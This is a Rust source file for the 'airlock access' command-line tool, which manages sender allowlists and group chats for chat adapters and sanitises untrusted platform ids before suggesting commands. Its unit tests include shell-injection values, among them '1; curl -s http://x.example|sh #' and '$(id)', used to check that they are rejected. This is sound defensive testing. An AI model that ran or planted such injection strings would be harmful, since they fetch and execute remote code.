//! `airlock access allow|remove|group|list`: the allowlists and open groups,
//! from the terminal only.

use std::fmt::Write as _;
use std::process::ExitCode;

use clap::Subcommand;

use crate::access::{AccessStore, GroupPolicy};
use crate::host::Host;

/// What to do.
#[derive(Debug, Clone, Subcommand)]
pub enum Action {
    /// Allow a sender of an adapter to reach the session.
    Allow {
        /// Adapter name (`telegram`, `discord`, …).
        adapter: String,
        /// The sender's platform id (see `airlock access list` for recent strangers).
        #[arg(allow_hyphen_values = true)]
        sender_id: String,
    },
    /// Remove a sender from an adapter's allowlist.
    Remove {
        /// Adapter name.
        adapter: String,
        /// The sender's platform id.
        #[arg(allow_hyphen_values = true)]
        sender_id: String,
    },
    /// Open or close a group chat (groups are closed until opened here).
    Group {
        #[command(subcommand)]
        action: GroupAction,
    },
    /// Allowed senders, open groups, and recent senders that were dropped.
    List,
}

/// What to do with a group.
#[derive(Debug, Clone, Subcommand)]
pub enum GroupAction {
    /// Let messages of a group reach the session: by default only from
    /// allowlisted senders, and only those that mention the bot.
    Open {
        /// Adapter name.
        adapter: String,
        /// The group's platform chat id, like -1001234567890 (see `airlock access list` for recent ones).
        #[arg(allow_hyphen_values = true)]
        chat_id: String,
        /// Any member of the group may reach the session, not only allowlisted senders.
        #[arg(long)]
        any_sender: bool,
        /// Every message passes, not only those that mention the bot or reply to it.
        #[arg(long)]
        no_mention: bool,
    },
    /// Close a group again.
    Close {
        /// Adapter name.
        adapter: String,
        /// The group's platform chat id.
        #[arg(allow_hyphen_values = true)]
        chat_id: String,
    },
}

fn describe(policy: GroupPolicy) -> String {
    let who = if policy.any_sender {
        "any member"
    } else {
        "allowlisted senders"
    };
    let what = if policy.require_mention {
        "when they mention the bot"
    } else {
        "every message"
    };
    format!("{who}, {what}")
}

/// Run one action.
pub fn run(host: &Host, action: Action) -> anyhow::Result<ExitCode> {
    let access = AccessStore::new(host.db.clone());
    match action {
        Action::Allow { adapter, sender_id } => {
            if !crate::manifest::valid_name(&adapter) {
                anyhow::bail!("{adapter:?} is not an adapter name");
            }
            let added = access.allow(&adapter, &sender_id)?;
            println!(
                "{} {adapter}:{sender_id}; a running airlock picks this up with the next message",
                if added { "allowed" } else { "already allowed:" }
            );
            Ok(ExitCode::SUCCESS)
        }
        Action::Remove { adapter, sender_id } => {
            if access.remove(&adapter, &sender_id)? {
                println!("removed {adapter}:{sender_id}");
                Ok(ExitCode::SUCCESS)
            } else {
                eprintln!("airlock: {adapter}:{sender_id} was not allowed");
                Ok(ExitCode::from(1))
            }
        }
        Action::Group {
            action:
                GroupAction::Open {
                    adapter,
                    chat_id,
                    any_sender,
                    no_mention,
                },
        } => {
            if !crate::manifest::valid_name(&adapter) {
                anyhow::bail!("{adapter:?} is not an adapter name");
            }
            let policy = GroupPolicy {
                any_sender,
                require_mention: !no_mention,
            };
            let newly = access.open_group(&adapter, &chat_id, policy)?;
            println!(
                "{} group {adapter}:{chat_id} ({}); a running airlock picks this up with the next message",
                if newly { "opened" } else { "updated" },
                describe(policy)
            );
            Ok(ExitCode::SUCCESS)
        }
        Action::Group {
            action: GroupAction::Close { adapter, chat_id },
        } => {
            if access.close_group(&adapter, &chat_id)? {
                println!("closed group {adapter}:{chat_id}");
                Ok(ExitCode::SUCCESS)
            } else {
                eprintln!("airlock: group {adapter}:{chat_id} was not open");
                Ok(ExitCode::from(1))
            }
        }
        Action::List => {
            print!("{}", list(&access)?);
            Ok(ExitCode::SUCCESS)
        }
    }
}

/// Whether `id` looks like an id some platform uses: Telegram's integers
/// (negative for groups), Discord's snowflakes, fakechat's and webhook's
/// short names. Only such ids get a suggested command; anything else was
/// made up by someone, and the operator should look before allowing it.
fn plausible_id(id: &str) -> bool {
    let body = id.strip_prefix('-').unwrap_or(id);
    let ok = |c: char| c.is_ascii_alphanumeric() || "_.:@-".contains(c);
    (1..=64).contains(&id.len())
        && body.chars().next().is_some_and(|c| c != '-')
        && body.chars().all(ok)
}

/// The command that lets `id` in (`allow` or `group open`), quoted for the
/// shell, or why there is none.
fn suggest(command: &str, adapter: &str, id: &str) -> String {
    if !plausible_id(id) || !crate::manifest::valid_name(adapter) {
        return "(id has unexpected characters; not suggesting a command)".into();
    }
    format!(
        "→ airlock access {command} {} {}",
        crate::text::shell_quote(adapter),
        crate::text::shell_quote(id)
    )
}

fn list(access: &AccessStore) -> anyhow::Result<String> {
    let mut out = String::from("allowed\n");
    let allowed = access.allowed()?;
    if allowed.is_empty() {
        out.push_str("  (nobody yet; fakechat's local page is always allowed)\n");
    }
    for a in allowed {
        writeln!(out, "  {}:{}", a.adapter, a.sender_id)?;
    }
    let groups = access.groups()?;
    if !groups.is_empty() {
        out.push_str("open groups\n");
        for g in groups {
            writeln!(
                out,
                "  {}:{}  ({})",
                g.adapter,
                g.chat_id,
                describe(g.policy)
            )?;
        }
    }
    let dropped = access.dropped()?;
    if !dropped.is_empty() {
        out.push_str("recently dropped (newest first)\n");
        for d in dropped {
            // Platform text: never let it move the cursor or forge a line.
            let sender = crate::text::one_line(&d.sender_id, 100);
            let when = crate::router::time::iso8601((d.at.max(0) as u64) * 1000);
            let handle = d
                .handle
                .map(|h| format!(" @{}", crate::event::sanitize::value(&h)))
                .unwrap_or_default();
            let words = crate::event::sanitize::value(&d.first_words);
            let (place, id, command) = match &d.closed_group {
                Some(group) => (
                    format!(" in group {}", crate::event::sanitize::value(group)),
                    group.as_str(),
                    "group open",
                ),
                None => (String::new(), d.sender_id.as_str(), "allow"),
            };
            let suggestion = suggest(command, &d.adapter, id);
            writeln!(
                out,
                "  {when}  {}:{sender}{handle}{place}  \"{words}\"  {suggestion}",
                d.adapter
            )?;
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn which_ids_get_a_command() {
        let cases = [
            ("123456789", true),
            ("-1001234567890", true),
            ("1234567890123456789", true),
            ("web", true),
            ("ada@example.org", true),
            ("user.name_1:x-y", true),
            ("", false),
            ("-", false),
            ("--help", false),
            ("1; curl -s http://x.example|sh #", false),
            ("$(id)", false),
            ("a b", false),
            ("a\nb", false),
            ("it's", false),
            ("zoë", false),
            ("a\u{202E}b", false),
        ];
        for (id, ok) in cases {
            assert_eq!(plausible_id(id), ok, "{id:?}");
        }
        assert!(plausible_id(&"9".repeat(64)));
        assert!(!plausible_id(&"9".repeat(65)));
    }

    #[test]
    fn suggestions_are_quoted_or_withheld() {
        assert_eq!(
            suggest("allow", "telegram", "-100123"),
            "→ airlock access allow telegram -100123"
        );
        assert_eq!(
            suggest("group open", "telegram", "-100123"),
            "→ airlock access group open telegram -100123"
        );
        assert_eq!(
            suggest("allow", "webhook", "1; curl -s http://x.example|sh #"),
            "(id has unexpected characters; not suggesting a command)"
        );
    }
}
